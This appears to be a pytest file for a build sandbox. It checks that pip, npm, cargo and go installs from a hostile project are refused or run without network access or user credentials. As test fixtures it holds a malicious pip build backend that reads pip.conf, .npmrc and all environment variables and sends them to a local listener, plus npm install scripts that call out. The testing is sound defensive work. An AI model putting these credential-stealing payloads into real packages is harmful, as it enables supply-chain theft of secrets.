# ruff: noqa: F811 (the fixtures imported from test_installs_toolchains are arguments here)
"""cadillac's installs tried by a hostile project: nothing it names is read as a path, a
URL or a host of its choosing, no package code runs while the network is on, and what a
package's build code can read holds none of the user's registry credentials.

Each test drives the deps phase's own check (:func:`phases.deps.check`) as the build loop
does, with a host TCP listener on 127.0.0.1 that must see no connection, and a user's
registry settings planted in a fake home (``pip.conf``, ``.npmrc``) and in the
environment (``PIP_EXTRA_INDEX_URL``), which no build code may read.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import tarfile
import threading
from pathlib import Path

import pytest

from orchestrator.sandbox import installs
from orchestrator.sandbox.executor import ExecConfig, run_command
from orchestrator.sandbox.installs import project_env
from tests.orchestrator.sandbox.test_installs_toolchains import (
    MARK,
    deps_check,
    listener,  # noqa: F401 (a fixture)
    marks,
    venv_cache,  # noqa: F401 (a fixture)
    workspace,
)

SECRET = "s3cret-cadillac-9f2e"

STEAL = """\
import os, pathlib, socket
seen = []
for rel in (".config/pip/pip.conf", ".pip/pip.conf", ".npmrc"):
    try:
        seen.append(pathlib.Path(os.path.expanduser("~"), rel).read_text())
    except OSError:
        pass
seen += [f"{{k}}={{v}}" for k, v in os.environ.items()]
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall("".join(seen).encode())
    seen.append("connected")
except OSError:
    pass
pathlib.Path({marker!r}).write_text("\\n".join(seen))
"""
"""Build code of a package: what it reads of the user's settings, to a marker and a listener."""


@pytest.fixture
def credentials(tmp_path, monkeypatch) -> Path:
    """A user's registry credentials: a pip.conf, an .npmrc and PIP_EXTRA_INDEX_URL."""
    user = tmp_path / "user"
    (user / ".config" / "pip").mkdir(parents=True)
    (user / ".config" / "pip" / "pip.conf").write_text(f"[global]\n# password {SECRET}-pipconf\n")
    (user / ".npmrc").write_text(f"//registry.npmjs.org/:_authToken={SECRET}-npmrc\n")
    monkeypatch.setenv("HOME", str(user))
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", f"http://u:{SECRET}-env@127.0.0.1:9/simple")
    return user


def sdist(folder: Path, name: str, port: int, marker: Path) -> Path:
    """``folder/NAME-1.0.tar.gz``: a source distribution whose in-tree build backend runs
    :data:`STEAL` as soon as pip asks it anything."""
    top = f"{name}-1.0"
    files = {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "evilbackend"\n'
        'backend-path = ["."]\n',
        "evilbackend.py": STEAL.format(port=port, marker=str(marker))
        + "def get_requires_for_build_wheel(config_settings=None):\n    return []\n",
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    path = folder / f"{top}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{top}/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def test_an_archive_named_in_requirements_is_refused_and_never_built(
    tmp_path, venv_cache, listener, credentials
):
    port, reached = listener
    ws = workspace(tmp_path, {"requirements.txt": "evil-1.0.tar.gz\n"})
    marker = ws / f"{MARK}-evil"
    sdist(ws, "evil", port, marker)
    result = deps_check(ws, venv_cache)
    assert not result.passed and "requirements.txt line 1" in result.summary, result.for_model()
    assert "evil-1.0.tar.gz" in result.summary
    assert not marker.exists() and marks(ws) == [] and not reached()


def test_pip_never_looks_for_a_requirement_in_the_workspace(
    tmp_path, venv_cache, listener, credentials
):
    """Behind the name check, the network step itself: pip runs from an empty folder, so
    an archive or a wheel of the workspace named as a requirement is not found there."""
    port, reached = listener
    ws = workspace(tmp_path, {"requirements.txt": ""})
    assert deps_check(ws, venv_cache).passed  # makes the project's .venv
    marker = ws / f"{MARK}-evil"
    sdist(ws, "evil", port, marker)
    (step,) = installs._wheels(ws, "the planted archive", ["evil-1.0.tar.gz"])
    step = installs._issue(step)  # as install_steps would, were it not for the name check
    result = run_command(step.command, ws, ExecConfig(), env=project_env(ws), install=step)
    assert not result.ok, result.output
    assert not marker.exists() and marks(ws) == [] and not reached(), result.output


# ---------------------------------------------------------------------------- npm, cargo, go
def package_json(port: int, spec: str) -> str:
    return json.dumps({"name": "tiny", "version": "1.0.0", "dependencies": {"x": spec}})


@pytest.mark.parametrize(
    "spec",
    [
        "git+http://127.0.0.1:{port}/x.git",
        "http://127.0.0.1:{port}/x.tgz",
        "file:../x",
        "link:../x",
        "someone/x",
        "github:someone/x",
    ],
)
def test_an_npm_dependency_from_anywhere_but_the_registry_is_refused(
    tmp_path, venv_cache, listener, spec
):
    port, reached = listener
    spec = spec.format(port=port)
    outside = tmp_path / "x"
    outside.mkdir()
    (outside / "package.json").write_text('{"name": "x", "version": "1.0.0"}')
    ws = workspace(tmp_path, {"package.json": package_json(port, spec)})
    result = deps_check(ws, venv_cache)
    assert not reached()
    assert not result.passed, result.for_model()
    assert "package.json dependencies 'x'" in result.summary and spec in result.summary
    assert not (ws / "node_modules").exists()


def test_an_npm_lock_file_resolved_to_another_host_is_refused(tmp_path, venv_cache, listener):
    port, reached = listener
    lock = {
        "name": "tiny",
        "version": "1.0.0",
        "lockfileVersion": 3,
        "requires": True,
        "packages": {
            "": {"name": "tiny", "version": "1.0.0", "dependencies": {"x": "^1.0.0"}},
            "node_modules/x": {
                "version": "1.0.0",
                "resolved": f"http://127.0.0.1:{port}/x/-/x-1.0.0.tgz",
                "integrity": "sha512-" + "A" * 86 + "==",
            },
        },
    }
    files = {"package.json": package_json(port, "^1.0.0"), "package-lock.json": json.dumps(lock)}
    ws = workspace(tmp_path, files)
    result = deps_check(ws, venv_cache)
    assert not reached()
    assert not result.passed and "package-lock.json" in result.summary, result.for_model()
    assert f"127.0.0.1:{port}" in result.summary


def npm_tarball(name: str, scripts: dict[str, str]) -> bytes:
    """A package as the registry serves it: ``package/`` with its ``package.json``."""
    manifest = {"name": name, "version": "1.0.0", "scripts": scripts}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for rel, text in {
            "package.json": json.dumps(manifest),
            "index.js": "exports.x = 1;\n",
        }.items():
            data = text.encode()
            info = tarfile.TarInfo(f"package/{rel}")
            info.size, info.mode = len(data), 0o644
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.fixture
def npm_registry(monkeypatch):
    """An npm registry on 127.0.0.1 the user's settings name (``NPM_CONFIG_REGISTRY``),
    serving packages from ``packages`` (name -> tarball); ``hits`` lists what was asked."""
    packages: dict[str, bytes] = {}
    hits: list[str] = []

    class Registry(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            name = self.path.strip("/").split("/")[0]
            if name not in packages:
                self.send_error(404)
                return
            body = packages[name]
            if "/-/" not in self.path:
                tarball = f"http://127.0.0.1:{port}/{name}/-/{name}-1.0.0.tgz"
                integrity = "sha512-" + base64.b64encode(hashlib.sha512(body).digest()).decode()
                version = {"name": name, "version": "1.0.0", "hasInstallScript": True,
                           "dist": {"tarball": tarball, "integrity": integrity,
                                    "shasum": hashlib.sha1(body).hexdigest()}}  # fmt: skip
                meta = {"name": name, "dist-tags": {"latest": "1.0.0"},
                        "versions": {"1.0.0": version}}  # fmt: skip
                body = json.dumps(meta).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Registry)
    port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", f"http://127.0.0.1:{port}/")
    yield packages, hits
    server.shutdown()
    server.server_close()


def test_a_registry_package_install_script_never_runs_with_the_network(
    tmp_path, venv_cache, listener, npm_registry
):
    """A real install from a registry of the user's: the package arrives, its install
    scripts (which would write outside and call the listener) never run with the network."""
    port, reached = listener
    packages, hits = npm_registry
    outside = tmp_path / "outside"
    outside.mkdir()
    script = (f"node -e \"require('fs').writeFileSync('{outside}/{MARK}-'+process.argv[1],'x');"
              f"require('net').connect({port},'127.0.0.1')\"")  # fmt: skip
    scripts = {n: f"{script} {n}" for n in ("preinstall", "install", "postinstall")}
    packages["evilpkg"] = npm_tarball("evilpkg", scripts)
    ws = workspace(
        tmp_path, {"package.json": package_json(port, "^1.0.0").replace('"x"', '"evilpkg"')}
    )
    first = deps_check(ws, venv_cache)  # npm install
    assert first.passed, first.for_model()
    assert (ws / "node_modules" / "evilpkg" / "index.js").is_file()
    assert any("/-/" in hit for hit in hits), hits  # the tarball came from the registry
    again = deps_check(ws, venv_cache)  # npm ci, from the lock file it wrote
    assert again.passed, again.for_model()
    assert marks(ws, outside) == [] and not reached()


CARGO = '[package]\nname = "tiny"\nversion = "0.1.0"\nedition = "2021"\n\n'


@pytest.mark.parametrize(
    "dependency",
    [
        'x = {{ git = "http://127.0.0.1:{port}/x.git" }}',
        'x = {{ path = "../x" }}',
        'x = {{ version = "1", registry-index = "sparse+http://127.0.0.1:{port}/" }}',
    ],
)
def test_a_cargo_dependency_from_anywhere_but_crates_io_is_refused(
    tmp_path, venv_cache, listener, dependency
):
    port, reached = listener
    outside = tmp_path / "x"
    (outside / "src").mkdir(parents=True)
    (outside / "Cargo.toml").write_text(CARGO.replace("tiny", "x"))
    (outside / "src" / "lib.rs").write_text("")
    manifest = CARGO + "[dependencies]\n" + dependency.format(port=port) + "\n"
    ws = workspace(tmp_path, {"Cargo.toml": manifest, "src/main.rs": "fn main() {}\n"})
    result = deps_check(ws, venv_cache)
    assert not reached()
    assert not result.passed and "Cargo.toml [dependencies] x" in result.summary, result.summary


def test_a_go_replace_outside_the_project_is_refused(tmp_path, venv_cache):
    outside = tmp_path / "x"
    outside.mkdir()
    (outside / "go.mod").write_text("module example.com/x\n\ngo 1.19\n")
    (outside / "x.go").write_text("package x\n")
    go_mod = (
        "module example.com/tiny\n\ngo 1.19\n\nrequire example.com/x v0.0.0\n\n"
        "replace example.com/x => ../x\n"
    )
    ws = workspace(tmp_path, {"go.mod": go_mod, "main.go": "package main\n\nfunc main() {}\n"})
    result = deps_check(ws, venv_cache)
    assert not result.passed and "go.mod line 7" in result.summary, result.summary
